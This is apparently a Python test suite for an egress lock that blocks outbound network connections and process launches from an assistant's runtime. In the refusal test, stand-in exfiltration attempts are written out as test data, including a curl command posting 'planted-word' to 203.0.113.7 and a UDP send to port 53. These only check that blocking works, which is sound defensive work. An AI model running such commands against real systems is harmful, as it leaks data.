"""The lock as a process lives with it: put on once, told about, judged anew, forked, ended."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

ROOT = Path(__file__).parents[2]
PREAMBLE = """
import json, os, socket, subprocess, sys, threading
from connectors.network import Action, install, installed, offline
from connectors.refusals import EgressRefusedError
from assistant.egress import judge_with
from tests.fakes.locked import company, lock_up

def refused(call, *arguments, **options):
    try:
        call(*arguments, **options)
    except EgressRefusedError as error:
        return str(error)
    return ""

def say(**told):
    print(json.dumps(told), flush=True)
"""


def run(code: str, *, expected_status: int = 0) -> dict[str, Any]:
    done = subprocess.run(
        [sys.executable, "-c", PREAMBLE + code], cwd=ROOT, capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == expected_status, done.stderr[-2000:]
    told: dict[str, Any] = json.loads(done.stdout.splitlines()[-1])
    return told


def test_it_is_put_on_once() -> None:
    told = run("""
lock = lock_up()
try:
    lock_up()
except RuntimeError as error:
    say(same=installed() is lock, error=str(error))
""")
    assert told["same"]
    assert "already on" in told["error"]


def test_refusals_are_told_without_payload() -> None:
    told = run("""
seen = []
def note(each):
    seen.append([each.action, each.host, each.port, each.caller, threading.current_thread().name])
lock = lock_up(note)
refused(socket.create_connection, ("203.0.113.7", 443))
refused(socket.socket(type=socket.SOCK_DGRAM).sendto, b"planted-word", ("203.0.113.7", 53))
refused(subprocess.run, ["/usr/bin/curl", "-d", "planted-word", "http://203.0.113.7/"])
refused(os.system, "echo planted-word")
lock.close()
say(seen=seen, count=lock.refused)
""")
    assert [each[:3] for each in told["seen"]] == [
        ["connect", "203.0.113.7", 443],
        ["send", "203.0.113.7", 53],
        ["start", "/usr/bin/curl", 0],
        ["start", "a shell", 0],
    ]
    assert {each[3] for each in told["seen"]} == {"__main__"}
    assert {each[4] for each in told["seen"]} == {"egress-refusals"}
    assert "planted-word" not in json.dumps(told)
    assert told["count"] == 4


def test_what_waits_is_told_at_the_end_of_the_process() -> None:
    told = run("""
lock_up(lambda each: say(host=each.host))
refused(socket.create_connection, ("203.0.113.7", 443))
""")
    assert told == {"host": "203.0.113.7"}


def test_a_refusal_from_a_library_names_the_library() -> None:
    told = run("""
import types
module = types.ModuleType("tldextract.cache")
exec("import urllib.request\\ndef fetch(): urllib.request.urlopen('http://203.0.113.7/', timeout=2)", module.__dict__)
seen = []
lock = lock_up(lambda each: seen.append(each.caller))
try:
    module.fetch()
except OSError:
    pass
lock.close()
say(seen=seen)
""")
    assert told["seen"] == ["tldextract.cache"]


def test_another_judge_takes_effect_at_once() -> None:
    told = run("""
asked = socket.socket(type=socket.SOCK_DGRAM)
lock = lock_up()
before = refused(asked.connect, ("10.77.0.1", 443))
lock.judge_by(judge_with(company("10.77.0.0/16:443")))
between = refused(asked.connect, ("10.77.0.1", 443))
lock.judge_by(judge_with(company()))
say(before=before, between=between, after=refused(asked.connect, ("10.77.0.1", 443)))
""")
    assert told["before"]
    assert "Refused" not in told["between"]
    assert told["after"]


def test_a_judge_that_fails_refuses() -> None:
    told = run("""
def broken(attempt):
    raise KeyError(attempt.host)
lock = install(broken)
say(
    connect=refused(socket.create_connection, ("127.0.0.1", 9)),
    start=refused(subprocess.run, ["/bin/true"]),
    count=lock.refused,
)
""")
    assert told["connect"]
    assert told["start"]
    assert told["count"] == 2


def test_a_judge_that_answers_something_like_yes_refuses() -> None:
    told = run('install(lambda attempt: "no")\nsay(connect=refused(socket.create_connection, ("127.0.0.1", 9)))')
    assert told["connect"]


def test_a_forked_child_is_locked_and_tells_for_itself() -> None:
    told = run("""
reading, writing = os.pipe()
lock = lock_up(lambda each: os.write(writing, f"{os.getpid()} {each.host}\\n".encode()))
refused(socket.create_connection, ("203.0.113.7", 443))
lock.close()
child = os.fork()
if child == 0:
    refused(socket.create_connection, ("203.0.113.8", 443))
    lock.close()
    os._exit(lock.refused)
status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
os.close(writing)
say(told=os.read(reading, 1000).decode().split(), me=os.getpid(), child=child, status=status, count=lock.refused)
""")
    assert told["told"] == [str(told["me"]), "203.0.113.7", str(told["child"]), "203.0.113.8"]
    assert (told["status"], told["count"]) == (1, 1)


def test_a_refusal_in_a_destructor_or_a_signal_handler_does_not_lock_up() -> None:
    told = run("""
import gc, signal
lock = lock_up(lambda each: None)

class Leaves:
    def __del__(self):
        refused(socket.create_connection, ("203.0.113.7", 443))

refused(socket.create_connection, ("203.0.113.7", 443))  # codecs are imported before the storm
signal.signal(signal.SIGALRM, lambda *_: refused(socket.create_connection, ("203.0.113.9", 443)))
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
for _ in range(300):
    circle = Leaves()
    circle.itself = circle
    del circle
    refused(socket.create_connection, ("203.0.113.8", 443))
    gc.collect(0)
signal.setitimer(signal.ITIMER_REAL, 0)
say(count=lock.refused, told=lock.close(timeout_seconds=10))
late = Leaves()  # is destroyed when threads no longer run
""")
    assert told["count"] > 600  # by hand and by destructors; the rest by signals
    assert told["told"]


def test_a_native_client_is_handed_addresses_that_were_judged() -> None:
    told = run("""
lock = lock_up()
say(
    socket_folder=lock.check_address("/run/postgresql", 5432),
    loopback=lock.check_address("127.0.0.1", 5432),
    name=lock.check_address("localhost", 5432),
    public=refused(lock.check_address, "203.0.113.7", 5432),
    foreign_name=refused(lock.check_address, "drop.example", 5432),
    port=refused(lock.check_address, "10.99.0.1", 5432),
    listed=lock.check_address("10.99.0.1", 443),
)
""")
    assert told["socket_folder"] == []
    assert told["loopback"] == ["127.0.0.1"]
    assert "127.0.0.1" in told["name"]
    assert told["public"]
    assert told["foreign_name"]
    assert told["port"]
    assert told["listed"] == ["10.99.0.1"]


def test_it_comes_before_everything_and_brings_little() -> None:
    """The lock goes on before any framework is imported, so it may import none."""
    code = (
        "import sys, connectors.network\n"
        "print([name for name in ('asyncio', 'ssl', 'http', 'urllib.request', 'subprocess', 'ctypes', 'pydantic', "
        "'httpx', 'typer') if name in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_the_event_loop_is_one_that_the_lock_sees() -> None:
    """libuv connects without an event; uvicorn is told not to use it, and no dependency brings it."""
    told = run("""
import asyncio, importlib.util
async def loop():
    return type(asyncio.get_running_loop()).__module__
say(loop=asyncio.run(loop()), uvloop=importlib.util.find_spec("uvloop") is None)
""")
    assert told["loop"].startswith("asyncio.")
    assert told["uvloop"]
